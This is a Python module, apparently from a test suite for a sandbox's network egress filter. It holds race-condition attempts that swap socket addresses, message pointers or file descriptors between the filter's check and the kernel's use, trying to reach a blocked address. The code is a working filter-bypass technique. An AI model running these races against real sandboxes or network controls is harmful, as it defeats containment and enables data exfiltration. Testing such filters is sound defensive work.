"""Races on the address: it changes in memory between whoever judges it and whoever uses it."""
import ctypes
import os
import socket
import struct
import sys
import threading
import time

from attack.network import udp
from attack.raw import Message, failed, libc, sockaddr
from attack.stage import attempt

TIMES = 50


def race_address(stage, use, wide=False):
    """50 rounds, while another thread turns the address in memory to and fro. The kernel and a judge both read it."""
    good = sockaddr("::ffff:" + stage.allowed4 if wide else stage.allowed4, stage.port)
    bad = sockaddr("::ffff:" + stage.blocked4 if wide else stage.blocked4, stage.port)
    address = ctypes.create_string_buffer(good, len(good))
    over, place = threading.Event(), ctypes.addressof(address)

    def turn():
        while not over.is_set():
            ctypes.memmove(place, bad, len(bad))
            ctypes.memmove(place, good, len(good))
    sys.setswitchinterval(0.0001)
    turner = threading.Thread(target=turn, daemon=True)
    turner.start()
    until = time.monotonic() + 5
    for _ in range(TIMES):
        # The turner gets its turn, however busy the machine is.
        time.sleep(0.001)
        for _ in range(4):
            try:
                use(address)
            except OSError:
                continue
        if time.monotonic() > until:
            break
    over.set()
    turner.join(1)


@attempt("py-race-connect")
def race_connect(stage):
    def use(address):
        with socket.socket() as one:
            failed(libc.connect(one.fileno(), address, 16), "connect")
            one.send(stage.word)
    race_address(stage, use)


@attempt("py-race-connect-mapped")
def race_connect_mapped(stage):
    def use(address):
        with socket.socket(socket.AF_INET6) as one:
            failed(libc.connect(one.fileno(), address, 28), "connect")
            one.send(stage.word)
    race_address(stage, use, wide=True)


@attempt("py-race-sendto")
def race_sendto(stage):
    with udp() as one:
        race_address(stage, lambda address: failed(
            libc.sendto(one.fileno(), stage.word, len(stage.word), 0, address, 16), "sendto"))


@attempt("py-race-sendmsg")
def race_sendmsg(stage):
    def use(address):
        message = Message(address.raw, stage.word)
        struct.pack_into("=Q", message.entry, 0, ctypes.addressof(address))
        failed(libc.sendmsg(one.fileno(), message.entry, 0), "sendmsg")
    with udp() as one:
        race_address(stage, use)


@attempt("py-race-sendmmsg")
def race_sendmmsg(stage):
    def use(address):
        message = Message(address.raw, stage.word)
        struct.pack_into("=Q", message.entry, 0, ctypes.addressof(address))
        failed(libc.sendmmsg(one.fileno(), message.entry, 1, 0), "sendmmsg")
    with udp() as one:
        race_address(stage, use)


@attempt("py-race-message-pointer")
def race_pointer(stage):
    # Not the address changes, but where the message says that it lies.
    good, bad = (ctypes.create_string_buffer(sockaddr(to, stage.port), 16) for to in (stage.allowed4, stage.blocked4))
    message, over = Message(good.raw, stage.word), threading.Event()
    pointer = ctypes.c_uint64.from_buffer(message.entry)

    def turn():
        while not over.is_set():
            pointer.value = ctypes.addressof(bad)
            pointer.value = ctypes.addressof(good)
    sys.setswitchinterval(0.0001)
    turner = threading.Thread(target=turn, daemon=True)
    turner.start()
    with udp() as one:
        for _ in range(TIMES):
            time.sleep(0.001)
            for _ in range(4):
                libc.sendmsg(one.fileno(), message.entry, 0)
    over.set()
    turner.join(1)


@attempt("py-race-descriptor")
def race_descriptor(stage):
    # The number stays, the socket behind it changes between a datagram's and a stream's, the latter connected elsewhere.
    with udp() as one, udp() as two:
        two.connect((stage.allowed4, stage.port))
        over = threading.Event()

        def turn():
            while not over.is_set():
                os.dup2(one.fileno(), 201)
                os.dup2(two.fileno(), 201)
        os.dup2(two.fileno(), 201)
        sys.setswitchinterval(0.0001)
        turner = threading.Thread(target=turn, daemon=True)
        turner.start()
        address = sockaddr(stage.blocked4, stage.port)
        for _ in range(TIMES):
            time.sleep(0.001)
            libc.connect(201, address, 16)
            libc.send(201, stage.word, len(stage.word), 0)
        over.set()
        turner.join(1)
